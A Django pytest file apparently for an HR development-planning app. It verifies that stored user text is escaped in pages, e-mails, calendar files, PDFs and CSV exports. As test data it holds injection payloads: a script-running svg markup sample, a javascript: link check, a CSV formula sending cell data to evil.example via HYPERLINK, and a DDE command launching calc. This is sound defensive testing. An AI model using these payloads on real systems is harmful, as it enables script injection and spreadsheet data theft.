"""Stored user text never executes (issue 8, item 2).

Every free-text field a person can fill (the models' CharField/TextField that a form or
the people import exposes; ``test_every_exposed_text_field_is_covered`` keeps the list
complete) is stored with a payload: markup that would run script, a ``javascript:`` link,
an image on a local listener, and line breaks that would start a new e-mail header or
calendar property. Then every place that shows it is read back: pages and htmx
fragments (escaped), e-mails (HTML escaped, text literal, one-line subjects, no extra
headers), the calendar file (one event, the text as a value), PDFs (the text literally,
no request to the listener) and the CSV export (no formulas).
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import re

import pytest
from django import forms
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar

from conversations import messages
from conversations import services as conversation_services
from conversations.calendar import conversation_ics
from conversations.models import (
    AgendaItem,
    Agreement,
    Conversation,
    PreparationAnswer,
    SharedNote,
)
from conversations.reminders import Candidate, Due, reminders_create, upcoming_slot
from conversations.report import conversation_report, report_pdf
from goals.models import Goal
from goals.services import goal_return, goal_submit
from people.models import Organisation, OrgUnit, OutgoingMessage, User
from people.outbox import outbox_deliver, outbox_send
from plans import pdf as plan_pdfs
from plans.models import (
    Competency,
    CompetencyGap,
    DevelopmentAction,
    DevelopmentPlan,
)
from tests.factories import GoalFactory
from tests.plans.conftest import pdf_text
from tests.stored_text import (
    FORM_MODULES,
    PLAIN_FORM_FIELDS,
    RAW,
    SCRIPT,
    SVG,
    exposed_fields,
    payload,
)


def test_every_exposed_text_field_is_covered():
    """A new text field on a plain form must be added to PLAIN_FORM_FIELDS (and so gets
    the payload below); model forms are found by themselves."""
    for module in FORM_MODULES:
        for value in vars(module).values():
            if not isinstance(value, type) or not issubclass(value, forms.Form):
                continue
            if value.__module__ != module.__name__:
                continue
            for name, field in value.base_fields.items():
                text = isinstance(field, forms.CharField) and not isinstance(
                    field, forms.EmailField | forms.UUIDField
                )
                if text and not isinstance(field.widget, forms.PasswordInput | forms.HiddenInput):
                    assert (value, name) in PLAIN_FORM_FIELDS or name in {"target"}, (value, name)
    assert (PreparationAnswer, "body") in exposed_fields()
    assert len(exposed_fields()) >= 30


# --- The stored payloads --------------------------------------------------------------------


def _assert_escaped(html: str, where: str) -> None:
    for raw in RAW:
        assert raw not in html, f"{where}: {raw!r} is not escaped"
    assert 'href="javascript:' not in html.lower(), where
    assert re.search(r'src="https?://127\.0\.0\.1', html) is None, where


# --- Pages and fragments --------------------------------------------------------------------


def test_pages_and_fragments_show_the_text_escaped(world, pop, stored, as_user):
    plan, conversation, held = pop.plan, stored.conversation, stored.held
    htmx = {"HTTP_HX_REQUEST": "true"}
    visits = {
        world.employee: [
            reverse("dashboards:home"),
            reverse("goals:goal-list"),
            pop.goal.get_absolute_url(),
            pop.team_goal.get_absolute_url(),
            plan.get_absolute_url(),
            reverse("plans:plan-item-edit", args=[plan.uuid, "action", pop.action.uuid]),
            reverse("plans:plan-item-edit", args=[plan.uuid, "ambition", plan.uuid]),
            reverse("plans:plan-item-edit", args=[plan.uuid, "step", pop.step.uuid]),
            reverse("plans:plan-item-edit", args=[plan.uuid, "note", pop.employee_note.uuid]),
            reverse("conversations:conversation-list"),
            conversation.get_absolute_url(),
            held.get_absolute_url(),
            reverse("conversations:plan-fragment", args=[plan.uuid]),
            reverse("people:inbox"),
            reverse("feedback:feedback-list"),
            stored.feedback.get_absolute_url(),
            reverse("feedback:plan-compliments", args=[plan.uuid]),
            reverse("plans:plan-gap-assess", args=[plan.uuid, pop.gap.uuid]),
        ],
        world.colleague: [
            reverse("feedback:feedback-list"),
            stored.feedback.invitations.get().get_absolute_url(),
            reverse("people:inbox"),
        ],
        world.manager: [
            reverse("dashboards:home"),
            pop.goal.get_absolute_url(),
            stored.unlinked_goal.get_absolute_url(),
            plan.get_absolute_url(),
            reverse("plans:plan-item-edit", args=[plan.uuid, "gap", pop.gap.uuid]),
            reverse("plans:plan-item-edit", args=[plan.uuid, "org-ambition", plan.uuid]),
            reverse("conversations:conversation-reschedule", args=[conversation.uuid]),
            held.get_absolute_url(),
            reverse("conversations:team"),
            reverse("goals:goal-assign", args=[pop.team_goal.uuid]),
            reverse("people:inbox"),
        ],
        world.hr: [
            reverse("dashboards:home"),
            reverse("dashboards:alignment"),
            f"{reverse('dashboards:alignment-people')}?goal={pop.org_goal.uuid}&period=all",
            reverse("plans:competency-list"),
            reverse("plans:competency-edit", args=[pop.competency.uuid]),
            plan.get_absolute_url(),
            pop.org_goal.get_absolute_url(),
            reverse("people:person-list"),
            reverse("people:person-detail", args=[world.employee.uuid]),
            reverse("people:unit-list"),
            reverse("people:unit-edit", args=[world.team.uuid]),
            reverse("people:sign-in-settings"),
            reverse("conversations:question-list"),
            reverse("feedback:settings"),
            reverse("conversations:cadence-list"),
        ],
    }
    goal_submit(goal=Goal.objects.create(**_draft_of(pop.goal)), by=world.employee)
    seen: set[str] = set()
    for person, urls in visits.items():
        client = as_user(person)
        for url in urls:
            for headers in ({}, htmx):
                response = client.get(url, **headers)
                assert response.status_code == 200, (url, headers)
                html = response.content.decode()
                _assert_escaped(html, f"{url} {headers}")
                seen.update(re.findall(r"X\d\dX", html))
    # The htmx fragments of single items, as "cancel" and "take theirs" load them.
    client = as_user(world.employee)
    for kind, item in (("action", pop.action), ("gap", pop.gap), ("step", pop.step)):
        url = reverse("plans:plan-item", args=[plan.uuid, kind, item.uuid])
        html = client.get(url, **htmx).content.decode()
        _assert_escaped(html, url)
    # Every stored text is shown somewhere (so the checks above did look at it).
    never_on_a_page = {stored.label_of(User, "job_title")}
    missing = {label for label in stored.labels if label not in seen} - never_on_a_page
    assert missing == set(), [stored.labels[label] for label in sorted(missing)]
    assert stored.hits == []


def _draft_of(goal: Goal) -> dict:
    return {
        "organisation": goal.organisation,
        "level": "individual",
        "owner_person": goal.owner_person,
        "parent": goal.parent,
        "title": goal.title,
        "metric": "number",
        "target_value": 5,
        "start_value": 0,
        "due_date": goal.due_date,  # proposing needs a measure and a due date
        "status": "draft",
        "visibility": "private",
    }


def test_searches_show_the_typed_text_escaped(world, as_user):
    """The goal search and the audit trail's filters show what was typed, escaped."""
    text = payload("X98X", "http://127.0.0.1:9", None)
    pages = (
        (world.employee, reverse("goals:goal-list"), {"q": text}),
        (world.hr, reverse("people:audit-log"), {"whose": text, "who": text}),
    )
    for person, url, query in pages:
        response = as_user(person).get(url, query)
        assert response.status_code == 200
        html = response.content.decode()
        _assert_escaped(html, url)
        assert "&lt;b&gt;X98X" in html, url


def test_form_errors_show_the_typed_text_escaped(world, pop, stored, as_user):
    """A rejected form shows what was typed, in fields and messages: escaped as well."""
    text = payload("TYPED", stored.base, None) + "\x00"
    client = as_user(world.employee)
    comment = reverse("plans:plan-comment-add", args=[pop.plan.uuid])
    posts = [
        (reverse("plans:plan-item-add", args=[pop.plan.uuid, "note"]), {"body": text}),
        (comment, {"body": text * 40}),
        (reverse("goals:goal-create"), {"title": text, "description": text}),
        (
            reverse("conversations:conversation-agreement-add", args=[stored.conversation.uuid]),
            {"text": text, "owner": "x", "due_date": text},
        ),
        (reverse("conversations:conversation-new"), {"mode": "request", "note": text * 10}),
    ]
    for url, data in posts:
        for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
            response = client.post(url, data, follow=True, **headers)
            assert response.status_code == 200, url
            html = response.content.decode()
            _assert_escaped(html, url)
            if url != comment or headers:  # without htmx a comment's error is a message
                assert "TYPED" in html, url


# --- E-mails ---------------------------------------------------------------------------------

ALLOWED_HEADERS = {
    "content-type",
    "mime-version",
    "content-transfer-encoding",
    "subject",
    "from",
    "to",
    "date",
    "message-id",
}


def _assert_safe_email(message: mail.EmailMultiAlternatives) -> None:
    parsed = email.message_from_bytes(message.message().as_bytes(), policy=email.policy.default)
    assert {name.lower() for name in parsed} <= ALLOWED_HEADERS, parsed.keys()
    assert parsed.get_all("bcc") is None
    subject = parsed["subject"]  # unfolded and decoded
    assert subject.strip() == message.subject
    assert "\n" not in subject and "\r" not in subject
    assert "&lt;" not in subject and "&#x27;" not in subject and "&quot;" not in subject
    html, mimetype = message.alternatives[0]
    assert mimetype == "text/html"
    _assert_escaped(html, f"e-mail {subject}")
    for part in parsed.walk():
        if part.get_content_type() == "text/calendar":
            _assert_one_event(part.get_payload(decode=True))


def test_emails_escape_html_and_keep_headers_and_subjects_clean(world, pop, stored, client):
    mail.outbox.clear()
    # Notifications whose title and body come from user text.
    goal_submit(goal=Goal.objects.create(**_draft_of(pop.goal)), by=world.employee)
    proposal = Goal.objects.create(**{**_draft_of(pop.goal), "status": "proposed"})
    goal_return(goal=proposal, by=world.manager, comment=pop.goal.review_comment)
    conversation_services.conversation_request(
        employee=world.employee, kind="development", note=stored.conversation.request_note
    )
    # The password reset greets the person by name.
    client.post(reverse("password_reset"), {"email": world.employee.email})
    # Reminders and the invitation with its calendar file.
    conversation = stored.conversation
    now = timezone.now()
    conversation_services._invite(conversation=conversation, kind="reminder_invitation")
    action, goal = pop.action, pop.goal
    slot = upcoming_slot(conversation)
    reminders_create(
        [
            Due(
                Candidate("upcoming", world.manager.pk, "conversation", conversation.pk, slot),
                messages.conversation_context(conversation, world.manager.pk, slot=slot),
                conversation.get_absolute_url(),
                conversation,
            ),
            Due(
                Candidate("action_due", world.employee.pk, "action", action.pk, now),
                {"action_id": action.pk, "title": action.title, "due": timezone.localdate()},
                pop.plan.get_absolute_url(),
            ),
            Due(
                Candidate("goal_due", world.employee.pk, "goal", goal.pk, now),
                {"goal_id": goal.pk, "title": goal.title, "due": timezone.localdate()},
                goal.get_absolute_url(),
            ),
            Due(
                Candidate("digest", world.manager.pk, "user", world.manager.pk, now),
                {"rows": [{"name": world.employee.full_name, "next_kind": conversation.kind,
                           "next_at": now, "missed": ["check_in"], "late_actions": 2}]},
                "/team/",
            ),
        ]
    )  # fmt: skip
    DevelopmentAction.objects.filter(pk=action.pk).update(due_date=timezone.localdate())
    Goal.objects.filter(pk=goal.pk).update(due_date=timezone.localdate())
    for message in OutgoingMessage.objects.filter(channel="email", sent_at__isnull=True):
        outbox_deliver(message_id=message.pk)
    assert len(mail.outbox) >= 9
    for message in mail.outbox:
        _assert_safe_email(message)
    bodies = "\n".join(message.body for message in mail.outbox)
    # The text part shows the text as typed (it is text, not HTML).
    assert SCRIPT in bodies and "<svg onload=window.__x=3>" in bodies
    subjects = [message.subject for message in mail.outbox]
    assert any("<svg onload" in subject for subject in subjects), subjects
    assert stored.hits == []


# --- The calendar file ------------------------------------------------------------------------


def _assert_one_event(ics: bytes) -> Calendar:
    calendar = Calendar.from_ical(ics)
    events = calendar.walk("VEVENT")
    assert len(events) == 1
    assert len(events[0].get("attendee")) == 2
    for line in ics.decode().replace("\r\n ", "").split("\r\n"):
        assert not line.startswith(("BCC", "Bcc:", "ATTENDEE:mailto:evil")), line
    return calendar


def test_calendar_file_keeps_user_text_inside_its_values(world, stored, as_user):
    conversation = stored.conversation
    response = as_user(world.employee).get(
        reverse("conversations:conversation-ics", args=[conversation.uuid])
    )
    calendar = _assert_one_event(response.content)
    event = calendar.walk("VEVENT")[0]
    assert str(event["location"]) == conversation.location.replace("\r\n", "\n")
    names = {str(attendee.params["CN"]) for attendee in event["attendee"]}
    assert world.employee.full_name.replace("\r\n", "\n") in names  # RFC 6868: ^n
    lines = conversation_ics(conversation).decode().replace("\r\n ", "").split("\r\n")
    assert lines.count("BEGIN:VEVENT") == 1 and lines.count("END:VEVENT") == 1


# --- PDFs ------------------------------------------------------------------------------------


def _squeezed(text: str) -> str:
    return "".join(text.split())


@pytest.mark.pdf
def test_pdfs_show_the_text_literally_and_request_nothing(world, pop, stored, as_user):
    label = stored.label_of
    document = plan_pdfs.plan_document(plan_id=pop.plan.pk, language="nl")
    plan_text = _squeezed(
        pdf_text(plan_pdfs.plan_pdf(document=document, generated_at=timezone.now()))
    )
    report = conversation_report(conversation_id=stored.held.pk)
    report_text = _squeezed(pdf_text(report_pdf(report=report, generated_at=timezone.now())))
    template = as_user(world.employee).get(reverse("plans:plan-template-pdf"))
    template_text = _squeezed(pdf_text(template.content))
    expected = {
        "plan": (
            plan_text,
            [
                (DevelopmentPlan, "employee_ambition"),
                (DevelopmentPlan, "organisation_ambition"),
                (Goal, "title"),
                (Competency, "name"),
                (CompetencyGap, "why_it_matters"),
                (DevelopmentAction, "title"),
                (DevelopmentAction, "provider"),
                (User, "full_name"),
                (User, "job_title"),
                (OrgUnit, "name"),
                (Organisation, "name"),
                (Agreement, "text"),
            ],
        ),
        "report": (
            report_text,
            [
                (AgendaItem, "text"),
                (SharedNote, "body"),
                (Agreement, "text"),
                (Conversation, "location"),
            ],
        ),
        "template": (template_text, [(Goal, "title"), (Organisation, "name")]),
    }
    for name, (text, fields) in expected.items():
        for model, field in fields:
            assert f"<b>{label(model, field)}".lower() in text.lower(), (name, model, field)
    assert _squeezed(SCRIPT) in plan_text and _squeezed(SVG) in report_text
    assert stored.hits == []


# --- The CSV export --------------------------------------------------------------------------


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]


def test_alignment_csv_neutralises_formulas(world, pop, as_user):
    for number, start in enumerate(FORMULAS):
        GoalFactory(
            organisation=world.organisation,
            level="organisation",
            title=f"{start} doel {number}",
            metric="none",
            start_value=None,
            target_value=None,
            current_value=None,
        )
    OrgUnit.objects.filter(pk=world.team.pk).update(name="=cmd|' /C calc'!A0")
    # Every unit a row of its own (no small groups folded together), so its name is there.
    world.organisation.min_group_size = 1
    world.organisation.save(update_fields=["min_group_size"])
    Competency.objects.filter(pk=pop.competency.pk).update(name="@Competentie")
    User.objects.filter(pk=world.manager.pk).update(full_name="-Jeroen")
    response = as_user(world.hr).get(reverse("dashboards:alignment-csv"), {"period": "all"})
    text = response.content.decode("utf-8-sig")
    cells = [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]
    dangerous = [
        cell
        for cell in cells
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        and not re.fullmatch(r"-?\d+(,\d+)?", cell)
    ]
    assert dangerous == []
    for number, start in enumerate(FORMULAS):
        assert f"'{start} doel {number}" in cells
    assert "'=cmd|' /C calc'!A0" in cells


def test_spreadsheet_safe_keeps_numbers_and_plain_text():
    from dashboards.spreadsheet import spreadsheet_safe

    assert spreadsheet_safe("-3") == "-3"
    assert spreadsheet_safe("1,5") == "1,5"
    assert spreadsheet_safe("< 5") == "< 5"
    assert spreadsheet_safe("Digitalisering") == "Digitalisering"
    assert spreadsheet_safe("-Jeroen") == "'-Jeroen"
    assert spreadsheet_safe(None) == ""


def test_an_email_subject_shows_the_title_as_typed(world):
    """The subject templates escaped HTML: "Sanne's doel" arrived as "Sanne&#x27;s doel"."""
    (_inbox, notification) = outbox_send(
        recipient=world.employee, kind="text", context={"title": 'Sanne\'s doel: <meer> & "beter"'}
    )
    mail.outbox.clear()
    outbox_deliver(message_id=notification.pk)
    assert mail.outbox[0].subject == 'Sanne\'s doel: <meer> & "beter"'
